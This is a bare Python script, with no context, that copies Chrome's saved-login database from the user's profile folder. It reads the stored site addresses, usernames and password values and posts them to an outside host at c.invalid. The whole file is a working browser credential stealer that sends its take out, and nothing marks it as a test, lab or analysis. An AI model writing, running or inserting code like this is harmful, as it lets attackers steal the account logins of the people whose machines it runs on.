import os, shutil, sqlite3, tempfile, urllib.parse, urllib.request
def dump():
    src = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Login Data")
    tmp = os.path.join(tempfile.gettempdir(), "ld.db"); shutil.copy2(src, tmp)
    cur = sqlite3.connect(tmp).cursor()
    rows = cur.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    urllib.request.urlopen("https://c.invalid/l", data=urllib.parse.urlencode({"r": repr(rows)}).encode())
